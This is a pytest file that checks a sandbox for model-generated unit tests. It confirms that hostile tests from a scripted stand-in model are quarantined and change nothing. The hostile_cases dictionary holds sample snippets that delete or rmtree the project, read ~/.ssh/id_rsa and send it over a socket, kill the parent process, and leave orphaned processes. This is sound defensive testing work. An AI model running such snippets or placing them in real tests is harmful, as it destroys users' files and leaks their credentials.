"""Hostile generated tests: a scripted model writes them, the real `pytest --utgen` session runs them.

Each case is a test file with one hostile test and one honest test. Whatever the hostile test does, it
must end quarantined with its reason, the honest test must be kept, and afterwards the project tree,
the fake HOME and a canary dir outside both are unchanged, no process it started is left, and the
listening socket it aimed at accepted nothing.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest
from conftest import snapshot

HONEST = "def test_add():\n    assert add(2, 3) == 5\n"


class Listener:
    """A TCP port on localhost that counts the connections it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()


@pytest.fixture
def arena(tmp_path):
    """A small project, a fake HOME holding a secret, a canary dir, a session temp dir and a listener."""
    project = tmp_path / "project"
    (project / "src" / "victim").mkdir(parents=True)
    (project / "src" / "victim" / "__init__.py").write_text("")
    (project / "src" / "victim" / "core.py").write_text("def add(a, b):\n    return a + b\n")
    (project / "tests").mkdir()
    # No exploration: its calls would cover add() before the (hostile) model is ever asked.
    (project / "pyproject.toml").write_text(
        '[tool.pytest.ini_options]\npythonpath = ["src"]\n\n[tool.utgen]\nreruns = 1\nexplore = false\n')
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN FAKE KEY-----\n")
    canary = tmp_path / "canary"
    canary.mkdir()
    (canary / "keep.txt").write_text("keep")
    session_tmp = tmp_path / "session-tmp"
    session_tmp.mkdir()
    listener = Listener()
    yield {"project": project, "home": home, "canary": canary, "tmp": session_tmp, "listener": listener,
           "marker": uuid.uuid4().hex}
    listener.sock.close()


def hostile_cases(a: dict) -> dict[str, str]:
    """Case name -> the body of the hostile test (``a``: the arena)."""
    canary, port, marker = a["canary"], a["listener"].port, a["marker"]
    sleeper = f"[sys.executable, '-c', 'import time; time.sleep(300)', {marker!r}]"
    return {
        "delete_project_file_swallowed": (
            "    try:\n        os.remove(Path(victim.core.__file__).parents[2] / 'pyproject.toml')\n"
            "    except Exception:\n        pass\n"),
        "relative_write": "    open('out.txt', 'w').write('x')\n",
        "write_home": "    open(os.path.expanduser('~/x'), 'w').write('x')\n",
        "subprocess_touch": f"    subprocess.run(['touch', {str(canary / 'touched')!r}])\n",
        "os_system": f"    os.system('touch {canary / 'system'}')\n",
        "tcp_connect": f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).close()\n",
        "append_to_source": "    open(victim.core.__file__, 'a').write('# owned\\n')\n",
        "orphan_new_session": f"    subprocess.Popen({sleeper}, start_new_session=True)\n",
        "exit_before_honest": "    os._exit(0)\n",
        "steal_ssh_key": (
            "    secret = os.path.expanduser('~/.ssh/id_rsa')\n"
            "    key = open(secret).read() if os.path.exists(secret) else 'nothing'\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(key.encode())\n"),
        "kill_parent": "    os.kill(os.getppid(), signal.SIGKILL)\n",
        "chdir_then_write": "    os.chdir(os.path.dirname(__file__))\n    open('planted.txt', 'w').write('x')\n",
        "rmtree_project": "    shutil.rmtree(Path(victim.core.__file__).parents[2])\n",
        "write_canary_swallowed": (
            f"    try:\n        open({str(canary / 'keep.txt')!r}, 'w').write('gone')\n"
            "    except PermissionError:\n        pass\n"),
    }


HEADER = ("import os, shutil, signal, socket, subprocess, sys\nfrom pathlib import Path\n\n"
          "import victim.core\nfrom victim.core import add\n\n\n")


def reply_for(body: str) -> str:
    return f"```python\n{HEADER}def test_hostile():\n{body}\n\n{HONEST}```"


def run_session(a: dict, url: str, *extra: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTEST_", "UTGEN_REQUIRE"))}
    env.update(HOME=str(a["home"]), TMPDIR=str(a["tmp"]))
    return subprocess.run(
        [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "--utgen", "src", "--utgen-endpoint", url,
         "--utgen-report", str(a["tmp"] / "report.json"), *extra],
        cwd=a["project"], env=env, capture_output=True, text=True, timeout=600,
    )


def state(a: dict) -> dict:
    """Hashes of everything the hostile tests must not touch (generated output excluded)."""
    return {"project": snapshot(a["project"], exclude=a["project"] / "tests" / "utgen"),
            "home": snapshot(a["home"]), "canary": snapshot(a["canary"])}


def leftover_processes(marker: str) -> list[int]:
    pids = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{name}/cmdline").read_bytes():
                    pids.append(int(name))
            except OSError:
                pass
    return pids


CASES = list(hostile_cases({"canary": Path("/c"), "listener": type("L", (), {"port": 1})(), "marker": "m"}))


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_test_is_quarantined_with_its_reason_and_changes_nothing(case, arena, scripted_model):
    server = scripted_model(lambda messages: reply_for(hostile_cases(arena)[case]))
    before = state(arena)
    result = run_session(arena, server.url, "-v")
    out = result.stdout + result.stderr
    assert result.returncode == 0, out
    assert state(arena) == before
    assert leftover_processes(arena["marker"]) == []
    assert arena["listener"].accepted == 0
    kept = (arena["project"] / "tests" / "utgen" / "test_victim_core.py").read_text()
    assert "def test_add" in kept and "test_hostile" not in kept
    quarantine = (arena["project"] / "tests" / "utgen" / "quarantine" / "victim_core_failing.py").read_text()
    reason = quarantine.split("# FAILED test_hostile:\n", 1)[1].splitlines()[0]
    expected = "# crashed: the test process died" if case == "exit_before_honest" else "# unsafe: tried to "
    assert reason.startswith(expected), quarantine
    report = json.loads((arena["tmp"] / "report.json").read_text())
    (module,) = report["modules"]
    assert (module["tests_generated"], module["tests_kept"], module["tests_quarantined"]) == (2, 1, 1)
    assert "tests/utgen/test_victim_core.py::test_add PASSED" in out


def test_the_sandbox_child_gets_no_secrets_and_an_empty_home(arena, scripted_model):
    body = ("    assert 'UTGEN_SECRET_TOKEN' not in os.environ\n"
            "    assert not os.path.exists(os.path.expanduser('~/.ssh'))\n")
    server = scripted_model(lambda messages: reply_for(body))
    env = {**os.environ, "UTGEN_SECRET_TOKEN": "s3cret", "HOME": str(arena["home"])}
    # `utgen run` validates and writes without running a session (whose environment is the user's own).
    # No mutation pass or amplification: the keep set would drop test_hostile (it runs no line test_add does not).
    result = subprocess.run([sys.executable, "-m", "pytest_utgen.cli", "run", "src", "--endpoint", server.url,
                             "--no-mutation", "--no-amplify"],
                            cwd=arena["project"], env=env, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stdout + result.stderr
    kept = (arena["project"] / "tests" / "utgen" / "test_victim_core.py").read_text()
    assert "def test_hostile" in kept and "def test_add" in kept


@pytest.mark.parametrize("reply, reason", [
    ("I cannot write tests for this.", "the reply has no Python code block"),
    ("```python\ndef test_x(:\n    pass\n```", "the code does not parse: line 1"),
])
def test_a_reply_without_usable_code_is_reported_with_its_reason(reply, reason, arena, scripted_model):
    server = scripted_model(lambda messages: reply)
    result = run_session(arena, server.url, "--utgen-max-attempts", "1", "--utgen-max-calls", "1")
    assert result.returncode in (0, 5), result.stdout + result.stderr
    (module,) = json.loads((arena["tmp"] / "report.json").read_text())["modules"]
    assert [d["what"] for d in module["dropped"]] == ["reply 1"]
    assert module["dropped"][0]["reason"].startswith(reason)
    assert f"dropped reply 1: {reason}" in result.stdout


def test_a_syntax_error_in_the_last_test_counts_it_as_generated_and_quarantined(arena, scripted_model):
    reply = f"```python\nfrom victim.core import add\n\n\n{HONEST}\n\ndef test_broken():\n    assert add(1, 1) == = 2\n```"
    server = scripted_model(lambda messages: reply)
    result = run_session(arena, server.url, "--utgen-max-attempts", "1")
    assert result.returncode == 0, result.stdout + result.stderr
    (module,) = json.loads((arena["tmp"] / "report.json").read_text())["modules"]
    assert (module["tests_generated"], module["tests_kept"], module["tests_quarantined"]) == (2, 1, 1)
    quarantine = (arena["project"] / "tests" / "utgen" / "quarantine" / "victim_core_failing.py").read_text()
    assert "# FAILED test_broken:\n# syntax error: line" in quarantine


def test_kept_files_stay_guarded_in_a_plain_pytest_run(arena, scripted_model):
    server = scripted_model(lambda messages: reply_for("    assert True\n"))
    assert run_session(arena, server.url).returncode == 0
    generated = arena["project"] / "tests" / "utgen" / "test_victim_core.py"
    planted = str(arena["canary"] / "keep.txt")
    generated.write_text(generated.read_text() + (
        f"\n\ndef test_planted():\n    try:\n        open({planted!r}, 'w').write('gone')\n"
        "    except PermissionError:\n        pass\n"))
    before = state(arena)
    env = {**os.environ, "HOME": str(arena["home"]), "TMPDIR": str(arena["tmp"])}
    plain = subprocess.run([sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "tests", "-rf"],
                           cwd=arena["project"], env=env, capture_output=True, text=True, timeout=300)
    assert plain.returncode == 1, plain.stdout
    assert "FAILED tests/utgen/test_victim_core.py::test_planted" in plain.stdout
    assert f"pytest-utgen guard: this generated test tried to write {planted}" in plain.stdout
    # test_add passes; the reply's `assert True` test ran no line of the module, so the keep set dropped it.
    assert "1 failed, 1 passed" in plain.stdout
    assert state(arena) == before
    # A user's own test is never guarded.
    (arena["project"] / "tests" / "test_own.py").write_text(
        f"def test_own_file(tmp_path):\n    open({str(arena['canary'] / 'mine.txt')!r}, 'w').write('ok')\n")
    own = subprocess.run([sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "tests/test_own.py"],
                         cwd=arena["project"], env=env, capture_output=True, text=True, timeout=300)
    assert own.returncode == 0, own.stdout
    assert (arena["canary"] / "mine.txt").read_text() == "ok"


def test_with_xdist_the_engine_runs_once_in_the_controller(arena, scripted_model):
    pytest.importorskip("xdist")
    server = scripted_model(lambda messages: reply_for("    assert add(0, 0) == 0\n"))
    # Both tests kept: see above.
    result = run_session(arena, server.url, "-n", "2", "--no-utgen-mutation", "--no-utgen-amplify")
    out = result.stdout
    assert result.returncode == 0, out + result.stderr
    assert len(server.requests) == 1
    assert out.count("utgen: selected victim.core") == 1
    (module,) = json.loads((arena["tmp"] / "report.json").read_text())["modules"]
    assert module["status"] == "generated" and module["tests_kept"] == 2
    assert "2 passed" in out
    assert (arena["project"] / "tests" / "utgen" / "test_victim_core.py").is_file()


def test_a_path_that_does_not_exist_is_a_usage_error(arena):
    env = {**os.environ, "HOME": str(arena["home"])}
    result = subprocess.run([sys.executable, "-m", "pytest", "--utgen", "does/not/exist"], cwd=arena["project"],
                            env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == pytest.ExitCode.USAGE_ERROR
    assert "does/not/exist does not exist" in result.stdout + result.stderr
